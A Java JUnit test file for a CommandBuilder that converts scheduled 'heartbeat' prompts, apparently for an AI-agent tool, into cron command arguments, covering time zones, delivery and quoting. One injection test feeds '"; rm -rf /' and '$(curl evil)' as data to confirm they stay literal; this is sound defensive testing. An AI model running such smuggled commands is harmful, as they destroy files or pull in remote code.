package com.cardioclaw.engine.command;

import com.cardioclaw.common.errors.MissingPayloadException;
import com.cardioclaw.engine.heartbeat.Heartbeat;
import com.cardioclaw.engine.heartbeat.HeartbeatDefaults;
import org.junit.jupiter.api.Test;

import java.time.ZoneId;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.*;

class CommandBuilderTest {

    private final CommandBuilder builder = new CommandBuilder(
            new TimezoneResolver(Optional::empty, ZoneId.of("UTC")));

    private static final HeartbeatDefaults BERLIN = new HeartbeatDefaults("Europe/Berlin");

    @Test
    void recurringPromptDefaultsToIsolatedWithoutDelivery() {
        Heartbeat hb = Heartbeat.builder().name("Digest").schedule("0 8 * * 1-5").prompt("summarize inbox").build();

        CronCommand cmd = builder.build(hb, BERLIN);

        assertEquals(List.of("cron", "add", "--name", "Digest",
                "--cron", "0 8 * * 1-5", "--tz", "Europe/Berlin",
                "--message", "summarize inbox",
                "--session", "isolated",
                "--no-deliver"), cmd.args());
        assertNull(cmd.warning());
    }

    @Test
    void messageGoesToMainSessionWithoutDeliveryFlags() {
        Heartbeat hb = Heartbeat.builder().name("Ping").schedule("*/30 * * * *").message("check in")
                .delivery("telegram").build();

        List<String> args = builder.build(hb, BERLIN).args();

        assertTrue(args.containsAll(List.of("--system-event", "check in", "--session", "main")));
        assertFalse(args.contains("--announce"));
        assertFalse(args.contains("--no-deliver"));
    }

    @Test
    void isolatedAnnounceWithModel() {
        Heartbeat hb = Heartbeat.builder().name("Report").schedule("0 18 * * *").prompt("report")
                .delivery("slack").model("opus").tz("America/Denver").build();

        List<String> args = builder.build(hb, BERLIN).args();

        assertEquals(List.of("cron", "add", "--name", "Report",
                "--cron", "0 18 * * *", "--tz", "America/Denver",
                "--message", "report",
                "--session", "isolated",
                "--announce", "--channel", "slack",
                "--model", "opus"), args);
    }

    @Test
    void oneShotIsLocalizedAndDeletedAfterRun() {
        Heartbeat hb = Heartbeat.builder().name("Call mom").schedule("at 2026-06-01 10:00").message("call").build();

        List<String> args = builder.build(hb, BERLIN).args();

        assertEquals("--at", args.get(4));
        assertEquals("2026-06-01T08:00:00Z", args.get(5));
        assertFalse(args.contains("--tz"));
        assertEquals("--delete-after-run", args.get(args.size() - 1));
    }

    @Test
    void explicitDeleteAfterRunOnRecurring() {
        Heartbeat hb = Heartbeat.builder().name("Once-ish").schedule("0 9 * * *").message("m")
                .deleteAfterRun(true).build();

        assertTrue(builder.build(hb, BERLIN).args().contains("--delete-after-run"));
    }

    @Test
    void shellMetacharactersStayDiscrete() {
        String evil = "\"; rm -rf /";
        Heartbeat hb = Heartbeat.builder().name(evil).schedule("0 9 * * *").prompt("$(curl evil) && " + evil).build();

        List<String> args = builder.build(hb, BERLIN).args();

        assertEquals(evil, args.get(args.indexOf("--name") + 1));
        assertEquals("$(curl evil) && " + evil, args.get(args.indexOf("--message") + 1));
    }

    @Test
    void systemFallbackReportsWarning() {
        Heartbeat hb = Heartbeat.builder().name("Standup").schedule("0 9 * * *").prompt("standup").build();

        CronCommand cmd = builder.build(hb, HeartbeatDefaults.none());

        assertEquals("UTC", cmd.args().get(cmd.args().indexOf("--tz") + 1));
        assertNotNull(cmd.warning());
    }

    @Test
    void missingPayloadFails() {
        Heartbeat hb = Heartbeat.builder().name("Empty").schedule("0 9 * * *").build();

        assertThrows(MissingPayloadException.class, () -> builder.build(hb, BERLIN));
    }

    @Test
    void renderQuotesForDisplay() {
        Heartbeat hb = Heartbeat.builder().name("it's time").schedule("0 9 * * *").message("go").build();

        String rendered = builder.build(hb, BERLIN).render("openclaw");

        assertTrue(rendered.startsWith("openclaw cron add --name 'it'\\''s time' --cron '0 9 * * *'"));
    }
}
